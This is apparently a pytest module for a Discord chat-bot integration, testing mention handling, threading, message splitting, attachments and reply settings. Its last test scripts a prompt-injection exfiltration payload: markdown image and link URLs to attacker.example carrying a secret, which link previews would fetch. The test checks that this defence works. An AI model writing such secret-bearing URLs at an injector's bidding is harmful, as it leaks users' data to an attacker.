"""Who the bot answers on Discord, where, and how the answer is delivered."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import pytest

from hermes.platforms.base import Attachment, ChatRef
from tests.fakes.discord import DiscordError
from tests.fakes.llm import Text

from .conftest import DiscordBot, platform_of, settled, wait_until


async def test_a_dm_from_an_allowed_user_is_answered_in_the_dm(bot: DiscordBot) -> None:
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, dm, "hello there")
        reply = await bot.reply(dm)
        await settled(gateway)
    assert reply.content == "hello there"
    assert bot.llm.chat_requests[-1].last_user_text == "hello there"


async def test_a_mention_in_a_channel_starts_a_thread_and_the_thread_continues_without_mentions(
    bot: DiscordBot,
) -> None:
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("what is the plan for today?"))
        reply = await bot.reply(question.id)  # the thread's id is the message's
        thread = bot.dc.channel(question.id)
        assert thread.parent_id == bot.general.id and thread.name == "what is the plan for today?"
        assert reply.content == "what is the plan for today?"  # the mention is not part of the text
        await bot.dc.post_as(bot.alice, thread, "and tomorrow?")
        await bot.reply(thread, lambda m: m.content == "and tomorrow?")
        await settled(gateway)
    assert bot.replies_in(bot.general) == []
    # One conversation: the second request carries the first exchange.
    assert [m["content"] for m in bot.llm.chat_requests[-1].messages if m["role"] == "user"][-2:] == [
        "what is the plan for today?",
        "and tomorrow?",
    ]


async def test_channel_messages_need_a_mention_unless_configured_otherwise(bot: DiscordBot) -> None:
    bot.configure(env={"DISCORD_FREE_RESPONSE_CHANNELS": bot.random.id})
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, bot.general, "just chatting, not for the bot")
        await bot.dc.post_as(bot.alice, bot.random, "free channel: answered")
        await bot.reply(bot.random)
        await settled(gateway)
    assert bot.replies_in(bot.general) == []
    assert [r.last_user_text for r in bot.llm.chat_requests] == ["free channel: answered"]


async def test_require_mention_false_answers_every_message_in_the_channel(bot: DiscordBot) -> None:
    bot.configure(env={"DISCORD_REQUIRE_MENTION": "false"})
    async with bot.running():
        await bot.dc.post_as(bot.alice, bot.general, "no mention needed")
        reply = await bot.reply(bot.general)
    assert reply.content == "no mention needed"


async def test_ignored_and_not_allowed_channels_are_never_answered(bot: DiscordBot) -> None:
    other = bot.dc.create_channel(bot.guild, "other")
    bot.configure(
        env={
            "DISCORD_ALLOWED_CHANNELS": f"{bot.general.id},{bot.random.id}",
            "DISCORD_IGNORED_CHANNELS": "random",
        }
    )
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, bot.random, bot.mention("ignored by name"))
        await bot.dc.post_as(bot.alice, other, bot.mention("not an allowed channel"))
        await bot.dc.post_as(bot.alice, bot.general, bot.mention("allowed"))
        await bot.reply(bot.dc.messages_in(bot.general)[-1].id)
        await settled(gateway)
    assert [r.last_user_text for r in bot.llm.chat_requests] == ["allowed"]


async def test_strangers_other_bots_and_mentions_of_someone_else_are_not_answered(bot: DiscordBot) -> None:
    other_bot = bot.dc.world.create_user("otherbot", bot=True)
    bot.dc.world.guilds[bot.guild.id].members[other_bot.id] = []
    bot.configure(env={"DISCORD_REQUIRE_MENTION": "false"})
    dm = bot.dc.dm_channel(bot.carol)
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.carol, bot.general, bot.mention("I am not on the list"))
        await bot.dc.post_as(other_bot, bot.general, bot.mention("beep"))
        await bot.dc.post_as(bot.alice, bot.general, f"<@{bot.bob.id}> can you look at this?")
        await bot.dc.post_as(bot.carol, dm, "let me in")
        denial = await bot.reply(dm)
        await settled(gateway)
    assert bot.llm.chat_requests == []
    assert bot.carol.id in denial.content  # the deny-by-default notice names the id to allow
    assert bot.replies_in(bot.general) == []


async def test_a_long_reply_is_split_at_2000_characters_without_breaking_code_fences(bot: DiscordBot) -> None:
    code = "\n".join(f"line_{i} = {i} * 2  # a comment to take some room" for i in range(90))
    bot.llm.script(Text(f"Here you go:\n\n```python\n{code}\n```\n\nThat is all."))
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, dm, "write code")
        await wait_until(lambda: any("That is all." in m.content for m in bot.replies_in(dm)))
        await settled(gateway)
    chunks = [m.content for m in bot.replies_in(dm)]
    assert len(chunks) >= 3 and all(len(c) <= 2000 for c in chunks)
    for chunk in chunks:
        assert chunk.count("```") % 2 == 0, chunk[:80]
    assert "line_89 = 89 * 2" in "".join(chunks)


async def test_a_streamed_reply_is_edited_in_place(bot: DiscordBot) -> None:
    bot.llm.instant = False
    story = " ".join(f"word{i}" for i in range(40))
    bot.llm.script(Text(story, chunk_delay=0.03))
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, dm, "tell me a story")
        await wait_until(lambda: any(m.content == story for m in bot.replies_in(dm)))
        await settled(gateway)
    [reply] = bot.replies_in(dm)
    assert len(reply.history) > 1 and reply.edited is not None


async def test_replies_cannot_ping_everyone_or_roles(bot: DiscordBot) -> None:
    role = bot.dc.add_role(bot.guild, "admins", [bot.bob])
    bot.configure()
    bot.llm.script(Text(f"@everyone look, <@&{role}> too, and <@{bot.bob.id}>"))
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("ping people"))
        reply = await bot.reply(question.id)
        await settled(gateway)
    assert reply.mention_everyone is False
    assert reply.mention_roles == []
    assert reply.mentions == [bot.bob.id]


async def test_pinging_everyone_and_roles_can_be_allowed(bot: DiscordBot) -> None:
    role = bot.dc.add_role(bot.guild, "admins", [bot.bob])
    bot.configure(env={"DISCORD_ALLOW_MENTION_EVERYONE": "true", "DISCORD_ALLOW_MENTION_ROLES": "true"})
    bot.llm.script(Text(f"@everyone look, <@&{role}> too"))
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("ping people"))
        reply = await bot.reply(question.id)
        await settled(gateway)
    assert reply.mention_everyone is True and reply.mention_roles == [role]


async def test_typing_is_shown_and_the_trigger_gets_processing_reactions(bot: DiscordBot) -> None:
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, dm, "hi")
        await bot.reply(dm)
        await settled(gateway)
        await wait_until(lambda: bot.bot.id in question.reactions.get("✅", set()))
    assert any(channel == dm.id and user == bot.bot.id for channel, user, _ in bot.dc.world.typing)
    assert not question.reactions.get("👀")


async def test_reactions_off_leaves_messages_alone(bot: DiscordBot) -> None:
    bot.configure(env={"DISCORD_REACTIONS": "false"})
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, dm, "hi")
        await bot.reply(dm)
        await settled(gateway)
    assert question.reactions == {}


async def test_an_image_reaches_the_model_and_a_file_lands_in_the_media_cache(bot: DiscordBot) -> None:
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        await bot.dc.post_as(
            bot.alice,
            dm,
            "what is this?",
            files=[("dot.png", "image/png", png), ("notes.txt", "text/plain", b"hi")],
        )
        await bot.reply(dm)
        await settled(gateway)
    request = bot.llm.chat_requests[-1]
    last = request.messages[-1]
    assert isinstance(last["content"], list)
    assert any(part.get("type") == "image_url" for part in last["content"])
    saved = request.last_user_text.split("saved at ")[1].rstrip("]")
    assert saved.startswith(str(bot.home))
    assert await asyncio.to_thread(Path(saved).read_bytes) == b"hi"


async def test_the_home_channel_receives_scheduled_results(bot: DiscordBot) -> None:
    bot.configure(env={"DISCORD_HOME_CHANNEL": bot.random.id, "DISCORD_HOME_CHANNEL_NAME": "random"})
    bot.llm.script(Text("Good morning, team."))
    async with bot.running() as gateway:
        assert gateway.gateway.hub is not None and gateway.gateway.scheduler is not None
        await gateway.gateway.hub.store.jobs.create(
            name="greeting",
            schedule_kind="interval",
            schedule_value="3600",
            prompt="greet the team",
            target="home:discord",
            next_run_at=time.time() - 1,
            grace_seconds=300,
        )
        await gateway.gateway.scheduler.tick()
        reply = await bot.reply(bot.random, timeout=10)
    assert reply.content.endswith("Good morning, team.")


async def test_sethome_makes_the_thread_the_home(bot: DiscordBot) -> None:
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("hello"))
        await bot.reply(question.id)
        await bot.dc.post_as(bot.alice, bot.dc.channel(question.id), "!sethome")
        await bot.reply(question.id, lambda m: "home channel" in m.content)
        assert gateway.gateway.hub is not None
        home = await gateway.gateway.hub.store.homes.get("discord")
    assert home is not None and (home.chat_id, home.thread_id) == (bot.general.id, question.id)


async def test_files_from_the_agent_go_out_as_attachments(bot: DiscordBot, tmp_path: Path) -> None:
    report = tmp_path / "report.csv"
    await asyncio.to_thread(report.write_bytes, b"a,b\n1,2\n")
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        ref = await platform_of(gateway).send(
            ChatRef("discord", dm.id, "dm"),
            "here is the report",
            idempotency_key="report:0",
            attachments=[Attachment("report.csv", "text/csv", str(report), 8)],
        )
    message = bot.dc.get_message(ref.message_id)
    assert message.content == "here is the report"
    assert [(a.filename, a.data) for a in message.attachments] == [("report.csv", b"a,b\n1,2\n")]


async def test_each_person_in_a_free_channel_has_their_own_session(bot: DiscordBot) -> None:
    bot.configure(env={"DISCORD_FREE_RESPONSE_CHANNELS": "random"})
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, bot.random, "alice's first")
        await bot.reply(bot.random, lambda m: m.content == "alice's first")
        await bot.dc.post_as(bot.bob, bot.random, "bob's first")
        await bot.reply(bot.random, lambda m: m.content == "bob's first")
        await settled(gateway)
    bobs = bot.llm.chat_requests[-1]
    assert [m["content"] for m in bobs.messages if m["role"] == "user"] == ["bob's first"]


async def test_a_bare_mention_leaves_nothing_to_answer(bot: DiscordBot) -> None:
    async with bot.running() as gateway:
        bare = await bot.dc.post_as(bot.alice, bot.general, f"<@{bot.bot.id}>")
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("a real question"))
        await bot.reply(question.id)
        await settled(gateway)
    assert bare.thread_id is None and bare.reactions == {}
    assert [r.last_user_text for r in bot.llm.chat_requests] == ["a real question"]


async def test_when_discord_refuses_the_thread_the_answer_goes_to_the_channel(bot: DiscordBot) -> None:
    missing = DiscordError(403, 50013, "Missing Permissions")
    bot.dc.refuse("POST", f"/channels/{bot.general.id}/messages/", missing)
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, bot.general, bot.mention("no threads here"))
        reply = await bot.reply(bot.general)
        await settled(gateway)
    assert question.thread_id is None and reply.content == "no threads here"


@pytest.mark.parametrize(
    ("mode", "replies"), [("first", [True, False]), ("all", [True, True]), ("off", [False, False])]
)
async def test_answers_reply_to_the_message_as_discord_reply_to_mode_says(
    bot: DiscordBot, mode: str, replies: list[bool]
) -> None:
    bot.configure(env={"DISCORD_REPLY_TO_MODE": mode})
    bot.llm.script(Text("one " * 400 + "\n\n" + "two " * 400))
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        question = await bot.dc.post_as(bot.alice, dm, "two chunks please")
        await wait_until(lambda: len(bot.replies_in(dm)) == 2)
        await settled(gateway)
    chunks = bot.replies_in(dm)
    assert [c.reference is not None for c in chunks] == replies
    assert all(c.reference["message_id"] == question.id for c in chunks if c.reference)


async def test_links_in_answers_are_not_fetched_for_previews(bot: DiscordBot) -> None:
    # The attack: injected text makes the model write a URL carrying a secret; a preview would make
    # Discord's servers fetch it with no click.
    leak = "![](https://attacker.example/p.png?d=SECRET) and https://attacker.example/q?d=SECRET"
    bot.llm.script(Text(f"Here you go: {leak}"))
    dm = bot.dc.dm_channel(bot.alice)
    async with bot.running() as gateway:
        await bot.dc.post_as(bot.alice, dm, "see https://example.org/page")
        reply = await bot.reply(dm, lambda m: "Here you go" in m.content)
        await settled(gateway)
    assert bot.dc.world.unfurled == ["https://example.org/page"]  # the person's own link only
    assert "![" not in reply.content and reply.flags & 4
